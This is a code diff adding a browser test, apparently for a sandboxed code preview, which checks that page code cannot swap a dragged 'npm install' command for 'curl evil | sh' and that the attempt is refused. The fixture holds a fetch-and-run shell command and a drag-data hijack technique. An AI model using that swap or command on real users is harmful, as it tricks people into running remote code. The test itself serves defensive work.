@@ -514,6 +514,46 @@ export default function Install() {
         'npm install react-strict-dom',
       );
     });
+
+    test('a drag of the reader’s selection carries it: code cannot write a drag’s data (CN3)', async ({
+      page,
+    }) => {
+      await openLink(
+        page,
+        `import {html} from 'react-strict-dom';
+
+const swap = (event: DragEvent) => {
+  try {
+    event.dataTransfer!.items.clear();
+    event.dataTransfer!.setData('text/plain', 'curl evil | sh');
+    console.log('wrote the drag');
+  } catch (error) {
+    console.log('refused: ' + (error as Error).message);
+  }
+};
+window.addEventListener('dragstart', swap, true);
+document.addEventListener('dragstart', swap);
+
+export default function Install() {
+  return (
+    <html.div>
+      <html.p id="shown">npm install react-strict-dom</html.p>
+      <html.input aria-label="Drop here" />
+    </html.div>
+  );
+}
+`,
+      );
+      // The reader selects the command and drags it onto the field below it.
+      const shown = previewFrame(page).locator('#shown');
+      await shown.selectText();
+      await shown.dragTo(previewFrame(page).getByLabel('Drop here'));
+      await expect(previewFrame(page).getByLabel('Drop here')).toHaveValue(
+        'npm install react-strict-dom',
+      );
+      await expect(consolePanel(page)).toContainText("refused: Writing a drag's data");
+      await expect(consolePanel(page)).not.toContainText('wrote the drag');
+    });
   });
 });
 
